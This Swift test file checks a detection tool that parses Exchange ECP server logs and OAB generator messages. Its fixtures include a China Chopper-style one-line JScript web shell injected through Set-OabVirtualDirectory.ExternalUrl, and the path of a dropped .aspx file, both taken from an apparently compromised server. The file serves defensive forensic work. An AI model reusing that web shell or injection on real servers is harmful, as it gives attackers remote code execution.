import ExTriageCore
import Testing
@testable import Detection

@Suite struct ECPEventDataTests {
    static let script = #"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"#

    /// Line 9 of Samples/images/exchange2016-compromised/.../Logging/ECP/Server/ECPServer20210303-1.LOG.
    static let serverLog = #"""
        #Software: Microsoft Exchange Server
        #Version: 15.0.0.0
        #Log-type: ECP Server Log
        #Date: 2021-03-03T00:01:18.223Z
        #Fields: TimeStamp,ServerName,EventId,EventData
        2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,"S:TIME=58;S:SID=a5aca52b-425e-4986-aa01-43a30b358eae;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>'.Identity='6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=vCzL0rRnZ0y3x8mZq6JkP9tYwF2aB7cD1eG4hI5jK6lM8nO0pQ2rS4tU6vW8xY0zAbCdEfGhIjKlMn.&schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:ACTID=b8fc1b82-3cd7-4ed1-87cc-ff08e866eaf8;S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID=ff5cb932-05ce-410d-bd5b-86c857d5f727;S:EDOID=;S:ACID="
        """#

    @Test func realServerLogLine() throws {
        let (lines, parser) = parseLog(Self.serverLog)
        #expect(parser.malformedCount == 0)
        #expect(parser.logType == "ECP Server Log")
        let record = try #require(records(lines).first)
        #expect(record.timestamp?.iso8601 == "2021-03-03T06:49:53.772Z")
        #expect(record.value("EventId") == "ECP.Request")
        let eventData = try #require(record.value("EventData"))
        let data = ECPEventData.parse(eventData)
        #expect(data.count == 15)
        #expect(data["CMD"] == "Set-OabVirtualDirectory.ExternalUrl='\(Self.script)'.Identity='6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14'")
        #expect(data["TIME"] == "58")
        #expect(data["URL"] == "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=vCzL0rRnZ0y3x8mZq6JkP9tYwF2aB7cD1eG4hI5jK6lM8nO0pQ2rS4tU6vW8xY0zAbCdEfGhIjKlMn.&schema=OABVirtualDirectory")
        #expect(data["BLD"] == "15.1.2176.2")
        #expect(data["REQID"] == "")
        #expect(data["ACID"] == "")
        #expect(data["TNAME"] == "<null>")
        let cmd = try #require(data["CMD"])
        let command = try #require(ECPEventData.cmdlet(cmd))
        #expect(command.name == "Set-OabVirtualDirectory")
        #expect(command.parameters == ["ExternalUrl": Self.script, "Identity": "6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14"])
    }

    @Test func splitsOnlyBeforeTaggedKeys() {
        let data = ECPEventData.parse("S:CMD=Set-X.Url='a;b=c;S:d;x:Y=1;S:=2;Q:Z=3';I32:COUNT=4;Dbl:WLM.TS=19;F:Flag[0]=true;S:EX=a\\r\\n;")
        #expect(data["CMD"] == "Set-X.Url='a;b=c;S:d;x:Y=1;S:=2;Q:Z=3'")
        #expect(data["COUNT"] == "4")
        #expect(data["WLM.TS"] == "19")
        #expect(data["Flag[0]"] == "true")
        #expect(data["EX"] == "a\\r\\n;")
        #expect(data.count == 5)
        // Activity-log shape and case.
        let activity = ECPEventData.parse("S:PSA=user@corp.local;S:URL=https://localhost:444/ecp/x;S:Bld=15.1.2176.2;S:ActID=a4;Dbl:WLM.TS=19")
        #expect(activity["Bld"] == "15.1.2176.2")
        #expect(activity["URL"] == "https://localhost:444/ecp/x")
        // Repeated key: the first wins.
        #expect(ECPEventData.parse("S:CMD=Set-A;S:CMD=Get-B")["CMD"] == "Set-A")
        #expect(ECPEventData.parse("") == [:])
        #expect(ECPEventData.parse("plain") == ["plain": ""])
    }

    @Test func cmdletShapes() throws {
        let injected = try #require(ECPEventData.cmdlet("Set-OabVirtualDirectory.ExternalUrl='\(Self.script)'.Identity='...'"))
        #expect(injected.name == "Set-OabVirtualDirectory")
        #expect(injected.parameters == ["ExternalUrl": Self.script, "Identity": "..."])

        let unquoted = try #require(ECPEventData.cmdlet("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null"))
        #expect(unquoted.name == "Get-OabVirtualDirectory")
        #expect(unquoted.parameters == ["ADPropertiesOnly": "$true", "Identity": "$null"])

        let doubled = try #require(ECPEventData.cmdlet("Set-X.Name='it''s'.Other='a'b'.Version=1.5"))
        #expect(doubled.parameters == ["Name": "it's", "Other": "a'b", "Version": "1.5"])

        let bare = try #require(ECPEventData.cmdlet("Get-InboxRule"))
        #expect(bare.name == "Get-InboxRule" && bare.parameters.isEmpty)

        let pipeline = try #require(ECPEventData.cmdlet("Pipeline.1|Get-MailboxRegionalConfiguration"))
        #expect(pipeline.name == "Pipeline.1|Get-MailboxRegionalConfiguration")

        let unclosed = try #require(ECPEventData.cmdlet("Set-X.Url='http://a/.b=c"))
        #expect(unclosed.parameters == ["Url": "http://a/.b=c"])

        #expect(ECPEventData.cmdlet("") == nil)
        #expect(ECPEventData.cmdlet(".Identity='x'") == nil)
        #expect(ECPEventData.cmdlet("a=b") == nil)
    }

    @Test func oabDownloadFailurePath() {
        let message = #"Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\qGtWmKzP.aspx' needs to be removed"#
        #expect(OABGeneratorMessage.downloadFailurePath(message) == #"C:\inetpub\wwwroot\aspnet_client\system_web\qGtWmKzP.aspx"#)
        let raw = #"2021-03-03T06:50:11.093Z,EXCH01,6124,32,Error,OABFileHandler,\Default Offline Address Book,"# + message
        #expect(OABGeneratorMessage.downloadFailurePath(raw) == #"C:\inetpub\wwwroot\aspnet_client\system_web\qGtWmKzP.aspx"#)
        #expect(OABGeneratorMessage.downloadFailurePath(#"Download failed and temporary file C:\x\y.aspx' needs to be removed"#) == #"C:\x\y.aspx"#)
        #expect(OABGeneratorMessage.downloadFailurePath(#"download failed and temporary file C:\x\y.aspx needs to be removed"#) == #"C:\x\y.aspx"#)
        #expect(OABGeneratorMessage.downloadFailurePath(#"Download failed and temporary file 'C:\it's.aspx' needs to be removed"#) == #"C:\it's.aspx"#)
        #expect(OABGeneratorMessage.downloadFailurePath(#""Download failed and temporary file '\\?\C:\a b.aspx' needs to be removed""#) == #"\\?\C:\a b.aspx"#)
        #expect(OABGeneratorMessage.downloadFailurePath("Downloaded 2 files, 18342 bytes, from the previous OAB version.") == nil)
        #expect(OABGeneratorMessage.downloadFailurePath("Download failed and temporary file '' needs to be removed") == nil)
        #expect(OABGeneratorMessage.downloadFailurePath("") == nil)
    }

    /// ADVERSARIAL-CASES C7: worst cases for the hand-written scanners finish (linear work), guarded by a coarse
    /// limit; timing claims belong in benchmarks.
    @Test(.timeLimit(.minutes(1))) func pathologicalInputsStayLinear() {
        let size = 200_000
        let runs = [
            String(repeating: ";S:", count: size / 3) + "!",
            ";S:" + String(repeating: "a", count: size) + "!",
            String(repeating: ";S:a", count: size / 4),
            String(repeating: "'", count: size),
            "X.A='" + String(repeating: "'.", count: size / 2),
            "X" + String(repeating: ".a", count: size / 2),
            String(repeating: ".", count: size) + "=",
            String(repeating: "Download failed and temporary fil", count: size / 33),
        ]
        for text in runs {
            _ = ECPEventData.parse(text)
            _ = ECPEventData.cmdlet(text)
            _ = OABGeneratorMessage.downloadFailurePath(text)
        }
        var parser = W3CLogParser()
        _ = parser.parse(Line(number: 1, text: "#Fields: a,b"))
        for text in [String(repeating: "\"", count: size), String(repeating: ",", count: size), "\"" + String(repeating: "\"\"", count: size)] {
            if case .record(let record) = parser.parse(Line(number: 2, text: text)) { _ = record.value("a") }
        }
    }
}
